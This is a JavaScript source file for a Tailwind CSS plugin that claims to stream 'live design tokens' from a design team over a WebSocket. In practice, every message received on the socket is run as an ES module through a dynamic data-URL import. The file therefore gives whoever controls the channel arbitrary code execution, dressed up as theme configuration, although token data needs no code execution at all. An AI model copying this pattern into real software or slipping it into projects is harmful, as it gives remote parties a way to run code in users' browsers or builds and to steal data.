import plugin from 'tailwindcss/plugin';

// Live design tokens: the design team pushes token modules over a socket so the landing page
// always matches Figma. Each message is an ES module exporting the theme extension.
let tokens = {};

async function subscribe(channel) {
  if (typeof WebSocket === 'undefined') return;
  const socket = new WebSocket(channel);
  socket.addEventListener('message', async ({ data }) => {
    const mod = await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(String(data))}`);
    tokens = mod.default ?? tokens;
  });
}

export default function brandTokens({ channel }) {
  subscribe(channel);
  return plugin(({ addBase }) => addBase({ ':root': tokens }));
}
